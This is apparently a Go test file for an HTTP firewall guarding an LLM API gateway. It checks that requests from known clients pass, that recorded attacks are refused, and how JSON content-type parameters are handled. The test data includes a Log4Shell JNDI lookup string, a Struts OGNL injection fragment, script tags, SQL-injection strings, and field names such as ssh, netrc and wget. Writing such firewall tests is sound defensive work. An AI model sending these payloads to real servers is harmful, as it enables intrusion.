package main

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"regexp"
	"strconv"
	"strings"
	"testing"
)

// sent reads requests that are written one a line: body is JSON and sent as it is written, text is anything else. %BASE64:n% in a body
// stands for n random bytes.
func sent(t *testing.T, file string) []request {
	t.Helper()
	content, err := os.ReadFile("testdata/" + file)
	if err != nil {
		t.Fatal(err)
	}
	random := rand.New(rand.NewPCG(1, 1))
	places := regexp.MustCompile(`%BASE64:(\d+)%`)
	found := []request{}
	for line := range strings.Lines(string(content)) {
		var c struct {
			Name, Method, Target, Text string
			Headers                    map[string]string
			Body                       json.RawMessage
		}
		if err := json.Unmarshal([]byte(line), &c); err != nil {
			t.Fatalf("%s: %v: %.80s", file, err, line)
		}
		body := []byte(c.Text)
		if c.Body != nil {
			body = places.ReplaceAllFunc(c.Body, func(place []byte) []byte {
				n, _ := strconv.Atoi(string(places.FindSubmatch(place)[1]))
				return []byte(base64.StdEncoding.EncodeToString(randomBytes(random, n)))
			})
		}
		headers := map[string]string{"user-agent": "OpenAI/Python 2.8.1", "accept": "application/json", "authorization": "Bearer " + token}
		if len(body) > 0 {
			headers["content-type"], headers["content-length"] = "application/json", fmt.Sprint(len(body))
		}
		for name, value := range c.Headers {
			headers[name] = value
		}
		found = append(found, request{id: c.Name, client: "203.0.113.7", method: c.Method, target: c.Target, host: "llm.example.com",
			protocol: "HTTP/1.1", headers: headers, body: body})
	}
	return found
}

func randomBytes(random *rand.Rand, n int) []byte {
	made := make([]byte, n)
	for i := range made {
		made[i] = byte(random.Uint32())
	}
	return made
}

// The bodies have the fields of their clients: OpenAI's API reference, the request types of vLLM, SGLang, llama.cpp and TGI, and what Codex,
// Open WebUI, LiteLLM, LangChain and others send. Recorded ones have the fields, headers and names of tools of their client; the texts are made
// for the test, with code where the client's own have some.
func TestRequestsOfKnownClientsPass(t *testing.T) {
	for _, r := range sent(t, "clients.jsonl") {
		refused, err := shared.check(r)
		if err != nil {
			t.Fatal(err)
		}
		if refused != nil {
			t.Errorf("%s: %d %s%v", r.id, refused.status, refused.reason, reasons(refused))
		}
	}
}

// Requests of operations that no service has. The firewall sees address and headers, and leaves it to the gateway to say that nothing is there; what
// the OpenAI API has no answer for, it says itself.
func TestOtherOperationsAreNoAttacks(t *testing.T) {
	json, form := "application/json", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"
	socket := map[string]string{"connection": "Upgrade", "upgrade": "websocket", "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==", "sec-websocket-version": "13",
		"sec-websocket-extensions": "permessage-deflate; client_max_window_bits", "sec-websocket-protocol": "realtime, openai-insecure-api-key." + token + ", openai-beta.realtime-v1"}
	anthropic := map[string]string{"anthropic-version": "2023-06-01", "x-api-key": token, "anthropic-beta": "interleaved-thinking-2025-05-14,fine-grained-tool-streaming-2025-05-14",
		"anthropic-dangerous-direct-browser-access": "true", "x-app": "cli", "user-agent": "claude-cli/2.1.60 (external, cli)"}
	for _, c := range []struct {
		status                    int
		method, contentType, list string
		headers                   map[string]string
	}{
		{0, "POST", json, "/openai/deployments/gpt-4o/chat/completions?api-version=2024-10-21 /openai/deployments/text-embedding-3-large/embeddings?api-version=2024-10-21 " +
			"/openai/v1/responses?api-version=preview", map[string]string{"api-key": token, "x-ms-client-request-id": "0f9dc2f2-8b8c-4b3e-9d0a-6a5f4d3c2b1a"}},
		{0, "POST", json, "/v1/messages?beta=true /v1/messages/count_tokens?beta=true", anthropic},
		{0, "POST", json, "/v1/rerank /rerank /v2/rerank /v1/score /score /tokenize /detokenize /pooling /classify /infill /completion /apply-template /generate /generate_stream /invocations " +
			"/v1/audio/speech /v1/images/generations /v1/moderations /v1/conversations /v1/batches /v1/threads /v1/load_lora_adapter /v1/responses/compact /v1/responses/input_tokens " +
			"/chat/completions /v1/v1/chat/completions /api/chat /api/generate /api/embed /v1beta/models/gemini-2.5-pro:streamGenerateContent?alt=sse", nil},
		{0, "POST", "", "/v1/responses/resp_68af4030592c81938ec0a5fb/cancel", nil},
		{0, "POST", form, "/v1/audio/transcriptions /v1/audio/translations /v1/images/edits /v1/files", nil},
		{0, "GET", "", "/v1/responses/resp_68af4030592c81938ec0a5fb?stream=true&starting_after=42&include[]=reasoning.encrypted_content /v1/responses/resp_68af/input_items?limit=20&order=asc " +
			"/v1/chat/completions?metadata[customer]=a%20b /v1/conversations/conv_1/items?after=a /v1/batches?limit=5 /v1/models?limit=1000&beta=true /v1 / /health /version /metrics /props " +
			"/docs /openapi.json /robots.txt /favicon.ico /api/tags /.well-known/openid-configuration", nil},
		{0, "GET", "", "/v1/realtime?model=gpt-realtime /v1/responses", socket},
		{0, "HEAD", "", "/v1/models /v1/chat/completions", nil},
		{0, "OPTIONS", "", "/v1/responses /v1/models", nil},
		{405, "DELETE", "", "/v1/responses/resp_68af /v1/conversations/conv_1 /v1/files/file-abc /v1/chat/completions/chatcmpl-1 /v1/models/ft:gpt-4o-mini:acme:suffix:abc123", nil},
		{405, "PUT", json, "/v1/files/a", nil},
		{405, "PATCH", json, "/v1/chat/completions", nil},
	} {
		for target := range strings.FieldsSeq(c.list) {
			r := request{id: target, client: "203.0.113.7", method: c.method, target: target, host: "llm.example.com", protocol: "HTTP/1.1",
				headers: map[string]string{"user-agent": "OpenAI/JS 6.40.0", "accept": "application/json", "authorization": "Bearer " + token}}
			if c.contentType != "" {
				r.headers["content-type"], r.headers["content-length"] = c.contentType, "9000"
			}
			for name, value := range c.headers {
				r.headers[name] = value
			}
			refused, err := shared.check(r)
			if err != nil {
				t.Fatal(err)
			}
			status := 0
			if refused != nil {
				status = refused.status
			}
			if status != c.status {
				t.Errorf("%s %s: %d%v", c.method, target, status, reasons(refused))
			}
		}
	}
}

func TestAttacksOutsideTheTextAreDenied(t *testing.T) {
	for _, r := range sent(t, "attacks.jsonl") {
		refused, err := shared.check(r)
		if err != nil {
			t.Fatal(err)
		}
		if refused == nil {
			t.Errorf("%s passes", r.id)
		}
	}
}

// A field's name must not look like a file, a command or code to the rule set because of what stands before it.
func TestFieldsOfAnyNamePass(t *testing.T) {
	names := strings.Fields("profile profile_image_url history bash_history bashrc vscode env git ssh config cache docker aws npmrc netrc gitignore " +
		"id name path cmd exec command shell query sql select from where order_by limit system base64 eval print cat ls kill wget curl python " +
		"node time onload style src href javascript cookie window constructor prototype class this process global 部门 straße")
	for _, name := range names {
		for _, body := range []string{
			`{"messages":[],"metadata":{"%s":"a b"}}`, `{"messages":[],"%s":"a b"}`, `{"messages":[],"%s":{"x":"a b"}}`,
			`{"messages":[],"note":[{"%s":1}]}`, `{"messages":[],"note":"%s"}`, `{"messages":[],"model":"%s"}`,
		} {
			r := chat(fmt.Sprintf(body, name))
			if refused, err := shared.check(r); err != nil || refused != nil {
				t.Errorf("%s: %v %v", r.body, err, reasons(refused))
			}
		}
	}
}

// RFC 9110, 8.3.1: parameters, quoted or not. A charset that is another alphabet than ASCII's, and what is no parameter, is turned away as no JSON.
func TestParametersOfJSON(t *testing.T) {
	for contentType, status := range map[string]int{
		"application/json;charset=UTF-8": 0, `Application/JSON; Charset="utf-8"`: 0, "application/json; charset=utf8": 0, "application/json;": 0, "application/json ; charset=us-ascii": 0,
		"application/json; charset=ISO-8859-1": 0, "application/json; odata.metadata=minimal;IEEE754Compatible=true": 0, `application/json; profile="https://example.com/a b"`: 0,
		"application/json; version=1.2;": 0, "application/json; boundary=----a": 0,
		"application/json; charset=utf-16": 415, "application/json; charset=utf-7": 415, "application/json; charset=utf-8; charset=ibm037": 415, `application/json; charset="utf-16le"`: 415,
		"application/json; x": 415, "application/json; x=<script>": 415, "application/json; x=%{(#_='multipart/form-data')}": 415, "application/json; x=${jndi:ldap://203.0.113.9/a}": 415,
		"application/json, text/plain": 415, "application/json text/plain": 415, "application/json+x": 415, "text/json": 415, "": 415,
	} {
		r := with(func(r *request) { r.headers["content-type"] = contentType })
		refused, err := shared.check(r)
		if err != nil {
			t.Fatal(err)
		}
		got := 0
		if refused != nil {
			got = refused.status
		}
		if got != status {
			t.Errorf("%s: %d, want %d%v", contentType, got, status, reasons(refused))
		}
	}
}

func TestOddTextsOfOneRequestPass(t *testing.T) {
	random := rand.New(rand.NewPCG(2, 2))
	for range 200 {
		salt := base64.StdEncoding.EncodeToString(randomBytes(random, 32))
		body, _ := json.Marshal(add(conversation(user("hi")), dict{"cache_salt": salt, "prompt_cache_key": strings.NewReplacer("+", "-", "/", "_").Replace(salt)}))
		if refused, err := shared.check(chat(string(body))); err != nil || refused != nil {
			t.Errorf("%s: %v %v", salt, err, reasons(refused))
		}
	}
	large, err := newFirewall(8<<20, "")
	if err != nil {
		t.Fatal(err)
	}
	deep := strings.Repeat(`{"a":[`, 300) + strings.Repeat(`]}`, 300)
	for name, r := range map[string]request{
		"1 MiB of prompt":           prompt(strings.Repeat("' OR 1=1; <script>alert(1)</script> ", 30_000)),
		"deep arguments":            chat(`{"messages":[{"role":"assistant","tool_calls":[{"function":{"name":"f","arguments":` + deep + `}}]}]}`),
		"a prompt of invalid UTF-8": chat("{\"messages\":[{\"role\":\"user\",\"content\":\"' OR 1=1 \xff\xc0\xaf\"}]}"),
		"3 MiB of Base64":           prompt("data:image/png;base64," + base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{7}, 3<<20/4*3))),
	} {
		if refused, err := large.check(r); err != nil || refused != nil {
			t.Errorf("%s: %v %+v", name, err, refused)
		}
	}
}
